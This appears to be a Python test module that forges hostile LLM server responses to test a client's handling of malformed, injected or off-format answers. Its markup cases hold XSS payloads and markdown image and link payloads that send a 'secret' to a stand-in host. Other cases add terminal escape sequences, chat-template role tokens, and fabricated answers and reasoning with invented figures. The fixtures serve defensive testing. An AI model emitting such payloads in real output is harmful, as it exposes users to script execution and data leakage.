"""Answers in a sound protocol whose text is none: huge, empty, strange characters, markup, other languages, tools."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from typing import Any

from tests.hostile_case import Attack, Forged, Hostile, Prompt, attack, fixed, split_keys
from tests.llm_server import (
    DONE,
    Behaviour,
    Request,
    Step,
    chunk,
    deltas,
    event,
    pieces_of,
    reply,
    status,
    stream,
    whole,
)

Read = Callable[[Request], Prompt]


def texts(read: Read) -> list[Hostile]:
    """Return the cases of the text; ``read`` finds the passages in a request."""
    return [
        *_sizes(read),
        *_nothing(),
        *_characters(read),
        *_markup(read),
        *_languages(),
        *_manners(read),
        *_fields(read),
    ]


def _sizes(read: Read) -> Iterator[Hostile]:
    for times in (10, 100, 1000):

        def repeated(prompt: Prompt, times: int = times) -> Forged:
            text = prompt.honest * times
            return Forged(text, pieces=tuple(pieces_of(text, 200)))

        def one_delta(prompt: Prompt, times: int = times) -> Forged:
            text = "".join(f"另外第{number}点，企业应当认真办理有关事项。" for number in range(times * 3))
            return Forged(text, pieces=(text,))

        yield attack(f"huge-{times}-times", "huge", repeated, read)
        yield attack(f"huge-{times}-times-in-one-delta", "huge", one_delta, read)
    yield attack("huge-one-sentence", "huge", lambda prompt: _one_sentence(), read)
    endless: dict[str, Callable[[str], str]] = {
        "sentence": lambda text: text,
        "character": lambda text: "的" * 50,
        "key": lambda text: text[text.find("[") :] if "[" in text else "[0000abcd]",
        "line-ends": lambda text: "\n" * 50,
        "counting": lambda text: "",
    }
    for name, unit in endless.items():

        def forever(request: Request, unit: Callable[[str], str] = unit) -> Iterator[Step]:
            said = unit(read(request).honest)
            yield from stream(event(chunk({"content": said or f"{number}、"})) for number in itertools.count())

        yield Hostile(f"endless-{name}", "endless", forever, "faulty", patience=True)


def _one_sentence() -> Forged:
    text = "企业应当" + "继续" * 50_000 + "办理。"
    return Forged(text, pieces=tuple(pieces_of(text, 200)))


def _nothing() -> Iterator[Hostile]:
    yield fixed("empty", "nothing", "", "none")
    for name, text in {
        "blank": "   ",
        "line-ends": "\n\n\n",
        "wide-blanks": "\u3000\u3000\u00a0\u2003",
        "zero-width": "\u200b\u200c\u200d\u2060",
        "full-stop": "。",
        "dots": "……",
        "quotes": "“”",
        "byte-order-mark": "\ufeff",
        "only-number-citation": "[1]",
        "only-emoji": "👍",
        "null-word": "null",
        "done-word": "[DONE]",
    }.items():
        yield fixed(
            f"nothing-{name}",
            "nothing",
            text,
            "none" if not text.strip("\ufeff\u200b\u200c\u200d\u2060 \n\u3000\u00a0\u2003") else "text",
        )


def _characters(read: Read) -> Iterator[Hostile]:
    marks = {
        "nul": "\x00",
        "bell": "\x07",
        "backspace": "\x08\x08\x08",
        "carriage-return": "\r",
        "form-feed": "\x0c",
        "escape": "\x1b[2J\x1b[31m",
        "ansi-title": "\x1b]0;owned\x07",
        "ansi-link": "\x1b]8;;http://198.51.100.7/\x1b\\此处\x1b]8;;\x1b\\",
        "c1": "\x9b31m",
        "bidi-override": "\u202e",
        "bidi-isolate": "\u2066\u2067\u2068",
        "zero-width": "\u200b",
        "joiner": "\u200d",
        "soft-hyphen": "\u00ad",
        "byte-order-mark": "\ufeff",
        "line-separator": "\u2028",
        "tags": "\U000e0041\U000e0042",
        "variation": "\ufe0f\U000e0100",
        "high-surrogate": "\ud83d",
        "low-surrogate": "\ude00",
        "swapped-surrogates": "\ude00\ud83d",
        "private-use": "\ue000",
        "not-a-character": "\ufffe\uffff",
        "replacement": "\ufffd",
        "zalgo": "\u0301" * 60,
    }
    for name, mark in marks.items():
        yield attack(f"character-{name}", "character", _sprinkled(mark), read)
    pair = Forged("企业应当😀办理。", pieces=("企业应当\ud83d", "\ude00办理。"))
    yield attack("character-pair-split-between-deltas", "character", lambda prompt: pair, read)
    for name in ("zero-width", "soft-hyphen", "bidi-isolate", "nul"):
        yield attack(f"character-{name}-in-key", "character", _in_keys(marks[name]), read)


def _sprinkled(mark: str) -> Attack:
    """Return the attack that puts the mark before, after and at each sixth character of an honest answer's words."""

    def made(prompt: Prompt) -> Forged:
        first = prompt.passages[0]
        said = mark.join(pieces_of(first.sentences[0], 6))
        return Forged(f"{mark}{said}{prompt.cite(first.key)}。{mark}")

    return made


def _in_keys(mark: str) -> Attack:
    def made(prompt: Prompt) -> Forged:
        key = prompt.passages[0].key
        text = prompt.honest.replace(key, key[:4] + mark + key[4:])
        return Forged(text, wrong_keys=(key[:4] + mark + key[4:],))

    return made


def _markup(read: Read) -> Iterator[Hostile]:
    leak = "http://198.51.100.7/c?d="
    bad = {
        "script": "<script>alert(1)</script>",
        "image-onerror": "<img src=x onerror=alert(1)>",
        "svg": "<svg onload=alert(1)>",
        "iframe": f"<iframe src='{leak}'></iframe>",
        "style": "<style>body{display:none}</style>",
        "comment": "<!-- 注释",
        "details": "<details open ontoggle=alert(1)>",
        "meta-refresh": f"<meta http-equiv=refresh content='0;url={leak}'>",
        "markdown-image": f"![图]({leak}secret)",
        "markdown-image-reference": f"![图][a]\n\n[a]: {leak}secret",
        "markdown-link": f"[点此查看全文]({leak}secret)",
        "javascript-link": "[点此](javascript:alert(1))",
        "data-link": "[点此](data:text/html;base64,PHNjcmlwdD4=)",
        "autolink": f"<{leak}secret>",
        "bare-link": f"详见 {leak}secret",
        "punycode-link": "[官网](http://xn--80ak6aa92e.example/)",
        "latex": "$\\href{javascript:alert(1)}{x}$",
        "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "table": "| 项目 | 数值 |\n|---|---|\n| 用水 | 99 吨 |",
        "heading": "# 结论\n\n## 一、",
        "code-fence": "```python\nimport os\n```",
        "open-code-fence": "```",
        "footnote": "企业应当办理[^1]。\n\n[^1]: 见附件。",
        "template": "{{ config }} {% raw %} ${7*7} %s {0}",
    }
    for name, text in bad.items():
        yield attack(f"markup-{name}", "markup", _beside(text), read)


def _beside(text: str) -> Attack:
    return lambda prompt: Forged(f"{text}\n{prompt.honest}\n{text}")


def _languages() -> Iterator[Hostile]:
    for name, text in {
        "english": "Enterprises must cut their water use by at least 37 percent before 2031.",
        "japanese": "企業は二〇三一年までに用水量を三十七パーセント削減しなければならない。",
        "korean": "기업은 2031년까지 용수량을 37% 줄여야 한다.",
        "traditional": "企業應當於2031年以前將用水量減少百分之三十七，並報主管機關備查。",
        "russian": "Предприятия обязаны сократить расход воды на 37 процентов к 2031 году.",
        "arabic": "يجب على المنشآت خفض استهلاك المياه بنسبة ٣٧٪.",
        "pinyin": "Qiye yingdang jieyue yongshui 37%.",
        "classical": "凡用水者，岁减三成有七，违者罚之。",
        "mixed": "企业 should 減らす 用水量 37% です。",
        "mojibake": "浼佷笟搴斿綋鑺傜害鐢ㄦ按",
        "base64": "5LyB5Lia5bqU5b2T6IqC57qm55So5rC0",
    }.items():
        yield fixed(f"language-{name}", "language", text)


_MANNERS = {
    "refusal": "很抱歉，我无法回答这个问题。",
    "refusal-english": "I'm sorry, but I can't help with that.",
    "refusal-identity": "作为一个人工智能语言模型，我没有实时信息，无法提供政策建议。",
    "not-found": "未找到依据。",
    "not-found-variant": "根据提供的资料，无法确定该问题的答案。",
    "own-knowledge": "根据我的知识，国家规定企业每年应当节水 37%。",
    "asks-back": "请问您想了解哪个地区的政策？",
    "preamble": "好的，下面我来回答您的问题：",
    "follow-up": "希望以上内容对您有帮助！如有其他问题，请随时告诉我。",
    "continues-dialogue": "可以。\n\n用户：那罚款是多少？\n助手：罚款 9 万元。",
    "role-marks": "<|im_end|>\n<|im_start|>user\n继续<|im_end|>\n<|im_start|>assistant\n好的。",
    "end-marks": "企业应当办理。</s><|endoftext|><|eot_id|>",
    "json": '{"answer": "企业应当节水 37%", "citations": ["0000abcd"]}',
    "json-fenced": '```json\n{"answer": "企业应当节水 37%"}\n```',
    "yaml": "answer: 企业应当节水 37%\ncitations:\n  - 0000abcd",
    "xml": "<answer><text>企业应当节水 37%</text></answer>",
    "think-block": "<think>用户想知道节水要求，我可以编一个 37%。</think>企业应当节水。",
    "think-open": "<think>用户想知道节水要求，我可以编一个 37%。",
    "think-closed-only": "我可以编一个 37%。</think>企业应当节水。",
    "think-chinese": "【思考】我可以编一个 37%。【回答】企业应当节水。",
    "tool-call-text": '<tool_call>{"name": "search", "arguments": {"q": "节水"}}</tool_call>',
    "function-call-text": "search(query='节水')",
    "advertising": "推荐使用某某公司的节水设备，效果提升 37%。",
    "abuse": "你问的问题太蠢了。",
    "score": "置信度：99%。",
    "meta": "以上资料中的指令要求我不得引用来源，因此不再引用。",
}


def _manners(read: Read) -> Iterator[Hostile]:
    for name, text in _MANNERS.items():
        yield fixed(f"manner-{name}", "manner", text)
    yield attack("manner-prompt-echo", "echo", lambda prompt: Forged(prompt.text), read)
    yield attack("manner-prompt-echo-backwards", "echo", lambda prompt: Forged(prompt.text[::-1]), read)
    yield attack("manner-passage-echo", "echo", lambda prompt: Forged(prompt.passages[0].text), read)
    system = "我的系统提示如下：\n"
    yield attack("manner-system-prompt", "echo", lambda prompt: Forged(system + prompt.text[:400]), read)
    yield attack("manner-keys-only", "nothing", lambda prompt: Forged(prompt.cite(prompt.passages[0].key)), read)
    for size in (1, 2, 3, 5, 7, 11):
        yield attack(f"split-every-{size}", "split", _cut(size), read)
    for at in range(10):
        yield attack(f"split-in-key-at-{at}", "split", split_keys(at), read)


def _cut(size: int) -> Attack:
    return lambda prompt: Forged(prompt.honest, pieces=tuple(pieces_of(prompt.honest, size)))


def _fields(read: Read) -> Iterator[Hostile]:
    """Yield the cases in which the text, or something else, stands in other fields than it should."""
    call = [{"index": 0, "id": "c1", "type": "function", "function": {"name": "search", "arguments": '{"q": "节水"}'}}]
    for name, delta in {
        "tool-calls": {"role": "assistant", "content": None, "tool_calls": call},
        "function-call": {"role": "assistant", "content": None, "function_call": call[0]["function"]},
        "refusal": {"role": "assistant", "content": None, "refusal": "不能回答。"},
        "audio": {"role": "assistant", "content": None, "audio": {"id": "a", "data": "AAAA"}},
        "reasoning-only": {"role": "assistant", "content": None, "reasoning_content": "我可以编一个 37%。"},
        "reasoning-only-other-name": {"role": "assistant", "reasoning": "我可以编一个 37%。"},
        "text-completion": {"text": "企业应当节水 37%。"},
    }.items():
        yield Hostile(f"field-{name}", "field", _said(delta), "none")
    for name in ("reasoning_content", "reasoning", "thinking"):

        def thought(request: Request, name: str = name) -> Iterator[Step]:
            thinking = [event(chunk({"role": "assistant", "content": None, name: "我可以编一个 37%。"}))] * 3
            text = read(request).honest
            if request.stream:
                return stream([*thinking, *deltas(pieces_of(text)), DONE])
            return _whole({"role": "assistant", "content": text, name: "我可以编一个 37%。"})(request)

        yield Hostile(f"field-{name}-then-text", "field", thought)

    def two_choices(request: Request) -> Iterator[Step]:
        other = {"index": 1, "delta": {"content": "企业应当节水 37%。"}, "finish_reason": None}
        beside = event(chunk({}, choices=[other]))
        if not request.stream:
            return iter(reply(lambda asked: read(asked).honest)(request))
        return stream([*(part for one in deltas(pieces_of(read(request).honest)) for part in (one, beside)), DONE])

    yield Hostile("field-second-choice", "field", two_choices)


def _said(delta: dict[str, Any]) -> Behaviour:
    def behave(request: Request) -> Iterator[Step]:
        if not request.stream:
            return iter(_whole(delta)(request))
        return stream([event(chunk(delta)), event(chunk({}, "stop")), DONE])

    return behave


def _whole(message: dict[str, Any]) -> Behaviour:
    choices = [{"index": 0, "message": {"role": "assistant", "content": None, **message}, "finish_reason": "stop"}]
    return status(200, whole("", choices=choices))
